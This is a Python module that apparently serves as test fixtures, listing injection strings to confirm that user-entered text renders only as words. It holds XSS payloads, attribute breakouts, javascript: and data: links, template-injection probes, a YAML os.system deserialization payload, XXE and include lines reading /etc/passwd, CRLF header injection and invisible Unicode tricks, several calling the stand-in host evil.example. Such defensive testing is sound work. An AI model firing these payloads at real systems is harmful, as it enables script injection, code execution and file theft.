"""What somebody might type to make a page do more than show words: none may be more than words to a reader.

Each is shorter than a title may be, and holds neither emphasis nor a link of the grammar of texts.
"""

from __future__ import annotations

ELEMENTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>", "</script><script>alert(1)</script>", "</script >", "</style><script>alert(1)",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)", "</noscript><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
    "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x 1x'>", "<IMG SRC=x:x ONERROR=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "</svg><script>alert(1)", "<svg><a href=javascript:alert(1)><text>x",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=//evil.example/x#a>",
    "<svg><foreignObject><iframe src=//evil.example>", "<svg><set onend=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x", "<math><mtext><style><img src=x onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<b>x</b>'>", "<iframe src=javascript:alert(1)>",
    "<object data=//evil.example/x>", "<embed src=//evil.example/x.swf>", "<applet code=x>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{display:none}</style>",
    "<form action=//evil.example><button>x</button></form>", "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<video src=//evil.example/x onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>x", "<b>bold</b>",
    "<a href=x>y</a>", "<x onclick=alert(1)>", "<template><script>alert(1)</script></template>",
    "<dialog open>x</dialog>", "<h1>Other</h1>", "<div style=position:fixed;inset:0>x", "<p>", "</p>", "</li></ul>",
    "</td></tr></table>", "</main></body></html>", "<hr>", "<br/>", "<!-- a -->", "<!--", "-->", "--!>",
    "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<?xml version='1.0'?>", "<?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>", "<!ENTITY a SYSTEM 'file:///etc/passwd'>", "<", "<<script>alert(1)//<</script>",
    "< script>alert(1)", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<slot name=x>",
    "<portal src=//evil.example>",
)  # fmt: skip

ATTRIBUTES = (
    "\" onclick=\"alert(1)", "' onclick='alert(1)", "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>",
    "\"/><script>alert(1)</script>", "x\" style=\"color:red", "x' style='color:red", "\" href=\"//evil.example",
    "\" id=\"main", "` onclick=alert(1)", "onclick=alert(1)", "\" /", "\"", "'", "\"\"", "x\" srcdoc=\"<b>",
    "\" aria-hidden=\"true", "\" hidden x=\"", "=\"", "\" data-library=\"//evil.example/x.js",
    "\" data-documents=\"//evil.example/x.js", "\" popovertarget=\"x",
)  # fmt: skip

ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;", "&quot; onclick=&quot;alert(1)", "&#34; onclick=&#34;alert(1)",
    "&amp;lt;b&amp;gt;", "&#0000060b&#0000062", "&lt", "&#", "&", "&&amp;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "&NewLine;&Tab;", "&colon;",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#42;a&#42;", "&nbsp;", "&ZeroWidthSpace;x",
)  # fmt: skip

ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript :alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))", "[x](data:text/html,x)", "[x](vbscript:x)", "[x](https://evil.example)",
    "[x](//evil.example)", "[x](http://evil.example 'title')", "[x](<https://evil.example>)", "[x](\\evil.example)",
    "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)", "![x](javascript:alert(1))", "![x][evil]", "[x][evil]",
    "[evil]: https://evil.example", "[evil]: javascript:alert(1)", "[evil]", "[x]: <//evil.example> 'x'",
    "<https://evil.example>", "<javascript:alert(1)>", "<x@evil.example>", "https://evil.example",
    "http://evil.example/x?a=b&c=d", "//evil.example/x", "www.evil.example", "x@evil.example",
    "mailto:x@evil.example", "tel:0900", "file:///etc/passwd", "to:causes/x", "\"to:causes/x\"", "[x](to:causes/x)",
    "href=\"to:get-help\"", "[x](#main)", "[x](../../x)", "[x](/x)", "[x]()", "[x](causes/x \"y\")",
    "*[abbr]: https://evil.example", "[^1]: https://evil.example", "blob:https://evil.example/x",
    "https://evil.example/</script>", "[![x](//evil.example/x)](//evil.example)",
)  # fmt: skip

MARKDOWN = (
    "{: onclick=alert(1) }", "{: #main }", "{: .cf-care style=color:red }", "{onclick=alert(1)}", "{#main}",
    "**x**{: onclick=alert(1)}", "# x", "## x {#main}", "> x", "- x", "+ x", "1. x", "1986. x", "```html", "~~~",
    "`x`", "``<script>``", "| a | b |", "|---|---|", "a | b", "***", "---", "===", "___", "__x__", "_x_", "    x",
    "!!! danger", "??? note", "=== \"x\"", ":material-alert:", "[TOC]", "[[x]]", "~~x~~", "==x==", "++x++", "^x^",
    "$x$", "\\(x\\)", "\\", "\\\\", "\\<b>", "\\*x\\*", "--8<-- \"/etc/passwd\"", ":::x", "[ ] x", "- [ ] x", "[^1]",
    "x\\", "<!--cf-toc-->", "\u0002wzxhzdk:0\u0003", "\u0002amp\u0003", "klzzwxh:0000",
)  # fmt: skip

TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{%- set x=1 -%}",
    "{# x #}", "{* x *}", "{{", "}}", "{%", "%}", "{ { x } }", "${7*7}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
    "`${alert(1)}`", "{0}", "{x.__class__}", "%s %n", "%(x)s", "$(id)", "{checker()}", "{site}", "[[${7*7}]]",
    "@(1+1)",
)  # fmt: skip

SCRIPTS = (
    "\"};alert(1);//", "';alert(1);//", "\\\";alert(1);//", "</SCRIPT>", "<!--<script>", "*/alert(1)/*", "//x",
    "/* x */", "}};alert(1)", "__proto__", "constructor", "null", "true", "\\u2028alert(1)", "'+alert(1)+'",
    "\"-alert(1)-\"", "eval(1)", ";}*{color:red", "url(//evil.example)", "expression(alert(1))",
    "@import '//evil.example'", "color:red}body{x:y",
)  # fmt: skip

YAML = (
    "!!python/object/apply:os.system ['id']", "!x y", "&a x", "*a", "<<: x", "a: b", "- a: b", "? x", "%YAML 1.1",
    "--- x", "...", "| x", "> x", "@x", "# comment", "x #y", "x: &a [*a]", "[x, y]", "{x: y}", "no", "~", "1e3",
    "0x1F", "2026-02-30", "'x'", "\"x\"", "''", ",", "`x", "=: x",
)  # fmt: skip

UNSEEN = (
    "a\u202etpircs\u202c", "\u2066x\u2069", "a\u200bb", "\ufeffx", "\u00adx", "a\u0000b", "a\u0007b", "a\u001b[31mb",
    "a\u0085b", "a\u2028b", "a\u2029b", "\ue000", '\U000e0041', "\ufffe", "a\rb", "java\u0000script:alert(1)",
    "<\u0000script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02bbx\u02bc", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "a\n\n<script>alert(1)</script>", "a\n\n# b", "a\n---\nb", "a\r\nSet-Cookie: x=y",
    "x\n\n[evil]: //evil.example", "\u0130\u0131\u017f", "a\u0301\u0301\u0301\u0301\u0301",
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(ELEMENTS + ATTRIBUTES + ENTITIES + ADDRESSES + MARKDOWN + TEMPLATES + SCRIPTS + YAML + UNSEEN)
)
